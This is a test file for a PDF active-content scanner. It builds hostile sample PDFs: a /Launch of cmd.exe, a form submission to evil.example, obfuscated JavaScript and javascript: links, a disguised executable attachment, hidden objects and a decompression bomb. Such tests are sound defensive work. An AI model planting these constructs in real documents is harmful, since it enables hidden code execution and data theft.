import { deflateSync } from 'node:zlib'

import { PDFDocument, PDFHexString, StandardFonts } from 'pdf-lib'
import { describe, expect, it } from 'vitest'

import { createPdf } from '#server/demo/demo-documents.ts'
import { createBuiltinSigningProvider } from '#server/signing/builtin-provider.ts'
import { cjkFontBytes } from './cjk-font.ts'
import { findPdfActiveContent } from './pdf-active-content.ts'
import {
  CATALOG,
  handWrittenPdf,
  PAGE,
  PAGES,
  pdfWithOpeningScript,
} from '#tests/hostile-pdfs.ts'

/** A one-page PDF; `change` adds to it before saving (with object streams, as pdf-lib does). */
async function pdfWith(
  change: (pdf: PDFDocument) => void | Promise<void> = () => undefined,
  options: { useObjectStreams?: boolean } = {},
): Promise<Uint8Array> {
  const pdf = await PDFDocument.create()
  const page = pdf.addPage([200, 200])
  page.drawText('evidence', {
    x: 20,
    y: 100,
    font: await pdf.embedFont(StandardFonts.Helvetica),
  })
  await change(pdf)
  return pdf.save({ useObjectStreams: options.useObjectStreams ?? true })
}

/** An object stream holding `objects` (numbered from 4), Flate-compressed. */
function objectStream(objects: string[], filter = '/FlateDecode') {
  let offsets = ''
  let content = ''
  objects.forEach((object, index) => {
    offsets += `${index + 4} ${content.length} `
    content += `${object}\n`
  })
  const plain = Buffer.from(offsets + content, 'latin1')
  const data = filter === '/FlateDecode' ? deflateSync(plain) : plain
  return `<< /Type /ObjStm /N ${objects.length} /First ${offsets.length} /Filter ${filter} /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`
}

describe('findPdfActiveContent', () => {
  it('passes ordinary PDFs: generated, with object streams, with Chinese text, sealed', async () => {
    expect(await findPdfActiveContent(await pdfWith())).toBeNull()
    expect(
      await findPdfActiveContent(
        await pdfWith(() => undefined, { useObjectStreams: false }),
      ),
    ).toBeNull()
    const letter = await createPdf(
      {
        title: '投诉书',
        paragraphs: ['评标委员会未按招标文件评审。'],
      } as Parameters<typeof createPdf>[0],
      await cjkFontBytes(),
      '新疆天山水利建设有限公司',
    )
    expect(await findPdfActiveContent(letter)).toBeNull()
    const { bytes: sealed } = await createBuiltinSigningProvider(
      `${process.env.TMPDIR ?? '/tmp'}/pdf-scan-ca-${process.pid}`,
    ).sealPdf(
      letter,
      { name: '新疆天山水利建设有限公司', kind: 'organisation' },
      { purpose: '投诉专用章' },
    )
    expect(await findPdfActiveContent(sealed)).toBeNull()
    // A link to a web page and a page destination on opening are no actions to fear.
    const linked = handWrittenPdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
      PAGES,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://slt.xinjiang.gov.cn/) >> >>',
    ])
    expect(await findPdfActiveContent(linked)).toBeNull()
  })

  it('finds JavaScript run on opening, also compressed in an object stream', async () => {
    const pdf = await pdfWithOpeningScript()
    // pdf-lib writes the catalog compressed: the name is not in the file's bytes.
    expect(Buffer.from(pdf).includes('JavaScript')).toBe(false)
    expect(await findPdfActiveContent(pdf)).toEqual({
      kind: 'active',
      detail: '/JavaScript',
    })
  })

  it('finds the JavaScript name tree, launch actions, additional actions, form submission and rich media', async () => {
    const cases: [string, string][] = [
      [
        '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >>',
        '/JavaScript',
      ],
      [
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>',
        '/Launch',
      ],
      [
        '<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /GoTo /D [3 0 R /Fit] >> >> >>',
        '/AA',
      ],
      [
        '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>',
        '/XFA',
      ],
      [
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >> >>',
        '/SubmitForm',
      ],
      [
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /RichMediaExecute >> >>',
        '/RichMediaExecute',
      ],
    ]
    for (const [catalog, detail] of cases)
      expect(
        await findPdfActiveContent(
          handWrittenPdf([catalog, PAGES, PAGE, '<< >>']),
        ),
      ).toEqual({ kind: 'active', detail })
  })

  it('sees through #-escaped names, hex strings and javascript: links', async () => {
    const escaped = handWrittenPdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>',
      PAGES,
      PAGE,
    ])
    expect((await findPdfActiveContent(escaped))?.detail).toBe('/JavaScript')
    const link = handWrittenPdf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI ${PDFHexString.fromText('javascript:alert(1)').toString()} >> >>`,
      PAGES,
      PAGE,
    ])
    expect(await findPdfActiveContent(link)).toMatchObject({
      kind: 'active',
      detail: expect.stringMatching(/^URI javascript:/),
    })
    const octal = handWrittenPdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (\\152avascript:alert\\(1\\)) >> >>',
      PAGES,
      PAGE,
    ])
    expect((await findPdfActiveContent(octal))?.kind).toBe('active')
  })

  it('finds a program attached by name or by its first bytes, and lets other attachments pass', async () => {
    const named = await pdfWith(async (doc) => {
      await doc.attach(Buffer.from('harmless'), 'setup.exe', {
        mimeType: 'application/octet-stream',
      })
    })
    expect(await findPdfActiveContent(named)).toEqual({
      kind: 'active',
      detail: 'file setup.exe',
    })
    const disguised = await pdfWith(async (doc) => {
      await doc.attach(
        Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(200)]),
        '说明.txt',
        { mimeType: 'text/plain' },
      )
    })
    expect(await findPdfActiveContent(disguised)).toEqual({
      kind: 'active',
      detail: 'embedded program',
    })
    const spreadsheet = await pdfWith(async (doc) => {
      await doc.attach(Buffer.from('项目,金额\n'), '清单.csv', {
        mimeType: 'text/csv',
      })
    })
    expect(await findPdfActiveContent(spreadsheet)).toBeNull()
  })

  it('finds an object hidden inside another object’s stream data', async () => {
    const hidden = '9 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'
    const pdf = handWrittenPdf([
      CATALOG,
      PAGES,
      PAGE,
      `<< /Length ${hidden.length + 10} >>\nstream\n\x00\x01${hidden}\x02\x03\x04\x05\x06\x07\x08\x09\nendstream`,
    ])
    expect((await findPdfActiveContent(pdf))?.detail).toBe('/JavaScript')
  })

  it('reads object streams behind chained filters, and refuses what it cannot decode', async () => {
    const objects = '4 0 << /S /JavaScript /JS (x) >>\n'
    const chained = Buffer.from(deflateSync(objects).toString('hex') + '>')
    const hexed = `<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length ${chained.length} >>\nstream\n${chained.toString('latin1')}\nendstream`
    expect(
      (
        await findPdfActiveContent(
          handWrittenPdf([CATALOG, PAGES, PAGE, hexed]),
        )
      )?.detail,
    ).toBe('/JavaScript')
    const unknown = objectStream(['<< /S /GoTo >>'], '/JBIG2Decode')
    expect(
      await findPdfActiveContent(
        handWrittenPdf([CATALOG, PAGES, PAGE, unknown]),
      ),
    ).toEqual({ kind: 'unreadable', detail: 'object stream' })
    // A Flate bomb: 80 MB of spaces in an object stream of a few hundred kilobytes.
    const bomb = deflateSync(Buffer.alloc(80 * 1024 * 1024, 0x20))
    const bombStream = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n${bomb.toString('latin1')}\nendstream`
    expect(
      await findPdfActiveContent(
        handWrittenPdf([CATALOG, PAGES, PAGE, bombStream]),
      ),
    ).toEqual({ kind: 'unreadable', detail: 'object stream' })
  })

  it('refuses an encrypted PDF whose object streams it cannot read', async () => {
    const encrypted = handWrittenPdf(
      [
        CATALOG,
        PAGES,
        PAGE,
        objectStream(['<< /Producer (x) >>']),
        '<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>',
      ],
      '/Encrypt 5 0 R',
    )
    expect(await findPdfActiveContent(encrypted)).toEqual({
      kind: 'unreadable',
      detail: 'encrypted',
    })
    // Without object streams and attachments its names are in clear: it passes.
    const plain = handWrittenPdf(
      [
        CATALOG,
        PAGES,
        PAGE,
        '<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>',
      ],
      '/Encrypt 4 0 R',
    )
    expect(await findPdfActiveContent(plain)).toBeNull()
  })
})
